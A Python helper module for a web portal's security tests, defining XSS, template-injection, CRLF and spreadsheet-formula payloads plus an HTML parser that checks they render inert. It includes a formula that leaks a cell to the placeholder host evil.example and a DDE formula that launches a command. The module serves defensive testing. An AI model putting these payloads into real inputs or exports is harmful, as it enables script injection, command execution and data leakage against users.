"""Hostile values and the checks that they come back inert, shared by the fuzz and XSS corpus tests.

Every payload that could run carries the marker 1337 (`alert(1337)`), so the checks tell an
injected tag or attribute from the portal's own markup: escaped text never becomes a tag, an
attribute or a link target, whatever the context it was printed in.
"""

import csv
import io
import re
from html.parser import HTMLParser

MARKER = "1337"

# Pieces that try every HTML context: text, double- and single-quoted attributes, raw-text
# elements (<textarea>, <title>, <script>), URLs, SVG and MathML, comments.
SCRIPT_TAG = "<script>alert(1337)</script>"
HTML_PIECES = [
    SCRIPT_TAG,
    '"><img src=x onerror=alert(1337)>',
    "'><svg/onload=alert(1337)>",
    '" onmouseover="alert(1337)" x-injected="',
    "' onfocus='alert(1337)' autofocus x-injected='",
    "</textarea></title></style></script><x-injected>",
    '<a href="javascript:alert(1337)">j</a>',
    '<iframe src="data:text/html,<script>alert(1337)</script>"></iframe>',
    '<math><mtext><a xlink:href="javascript:alert(1337)">m</a></mtext></math>',
    '<svg><a href="javascript:alert(1337)"><text>s</text></a></svg>',
    "--><!--",
]
# Django and Jinja template syntax: shown as typed, never evaluated ("ssti" never becomes "SSTI").
TEMPLATE_PIECES = ['{{ "ssti"|upper }}', "{% filter upper %}ssti{% endfilter %}", "${'ssti'.upper()}"]
# Line breaks (CRLF, CR, LF, Unicode's) that try to start a new iCalendar property or header.
CRLF_PIECE = "\r\nX-INJECTED:1337\rATTENDEE:mailto:evil@example.com\nX-INJECTED:1337\u2028X-INJECTED:1337\r\n"
# Values a spreadsheet program would run as formulas (OWASP "CSV injection").
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Kliknij")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
# Whole values for URL fields and links: an editor must not be able to save them.
HOSTILE_URLS = [
    "javascript:alert(1337)",
    " JaVaScRiPt:alert(1337)",
    "java\tscript:alert(1337)",
    "data:text/html,<script>alert(1337)</script>",
    "vbscript:msgbox(1337)",
]
# The short list the query-string fuzzer mixes into generated values.
FUZZ_PAYLOADS = [
    SCRIPT_TAG,
    '"><img src=x onerror=alert(1337)>',
    "'><svg/onload=alert(1337)>",
    "</textarea><script>alert(1337)</script>",
    '<iframe src="javascript:alert(1337)">',
    '" onmouseover="alert(1337)" x-injected="',
]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def payload(limit=None, tag="", crlf=True, formula=""):
    """One value for a text field: as many pieces as fit in `limit` characters.

    `tag` names the field at the end, so a failure shows where the value came from; `formula`
    puts a spreadsheet formula first, where a spreadsheet would see it.
    """
    pieces = [formula] if formula else []
    pieces += [HTML_PIECES[0], *TEMPLATE_PIECES[:1], *HTML_PIECES[1:], *TEMPLATE_PIECES[1:]]
    if crlf:
        pieces.append(CRLF_PIECE)
    suffix = f" #{tag}" if tag else ""
    value = ""
    for piece in pieces:
        if limit is not None and len(value) + len(piece) + len(suffix) > limit:
            continue
        value += piece
    return value + suffix


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcdoc"}
_URL_NOISE = re.compile(r"[\x00-\x20\x7f]+")


def dangerous_url(value):
    normalised = _URL_NOISE.sub("", value or "").lower()
    return normalised.startswith(("javascript:", "vbscript:", "data:")) and MARKER in value


class InjectionFinder(HTMLParser):
    """Finds markup that came from a payload: injected tags and attributes, event handlers
    that run the marker, scripts that are exactly a payload's code, and script-capable URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings = []
        self._script = None

    def _report(self, kind, detail):
        line, column = self.getpos()
        self.findings.append(f"{kind}: {detail!r} (line {line}, column {column})")

    def handle_starttag(self, tag, attrs):
        if tag == "x-injected":
            self._report("injected tag", tag)
        for name, value in attrs:
            value = value or ""
            if name == "x-injected":
                self._report("injected attribute", f"<{tag} {name}>")
            elif name.startswith("on") and MARKER in value:
                self._report("event handler", f"<{tag} {name}={value}>")
            elif name in URL_ATTRIBUTES and dangerous_url(value):
                self._report("script URL", f"<{tag} {name}={value}>")
        if tag == "script":
            self._script = []

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            code = "".join(self._script).strip()
            if code.startswith(f"alert({MARKER})"):
                self._report("live script", code[:80])
            self._script = None


def html_injections(body):
    """Every injection found in an HTML (or HTML fragment) string; empty when all is escaped."""
    finder = InjectionFinder()
    finder.feed(body)
    finder.close()
    findings = finder.findings
    if SCRIPT_TAG in body:
        findings.append(f"raw payload: {SCRIPT_TAG!r}")
    if "SSTI" in body:
        # A template engine ran a payload: "ssti" is only ever sent in lower case.
        findings.append("template syntax in a value was evaluated")
    return findings


def javascript_urls(body):
    """href/src/action values of real tags that start with javascript: (escaped text is not a tag)."""
    finder = _Targets()
    finder.feed(body)
    return [target for target in finder.targets if _URL_NOISE.sub("", target).lower().startswith("javascript:")]


class _Targets(HTMLParser):
    def __init__(self):
        super().__init__()
        self.targets = []

    def handle_starttag(self, tag, attrs):
        self.targets += [value or "" for name, value in attrs if name in {"href", "src", "action", "formaction"}]


def assert_inert_html(body, where=""):
    findings = html_injections(body)
    assert not findings, f"{where}: {findings[:5]}"


def formula_cells(rows):
    """Cells a spreadsheet program would evaluate: text starting with = + - @ tab or CR."""
    return [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(FORMULA_STARTS)]


def one_line_ending(text):
    """Text with every CRLF and CR as LF, as iCalendar and XLSX give it back."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def csv_rows(content, delimiter=","):
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def screen_problems(client, pages):
    """Every (url, tags) screen fetched with `client`: crashes, non-200 answers, injected markup
    and tags that should be shown but are not, one line each."""
    problems = []
    for url, tags in pages:
        try:
            response = client.get(url)
        except Exception as error:  # noqa: BLE001 - every screen is checked; a crash is one problem
            problems.append(f"{url}: {error!r}")
            continue
        if response.status_code != 200:
            problems.append(f"{url}: HTTP {response.status_code}")
            continue
        body = response.content.decode()
        problems += [f"{url}: {finding}" for finding in html_injections(body)]
        problems += [f"{url}: {tag} not shown" for tag in tags if tag not in body]
    return problems
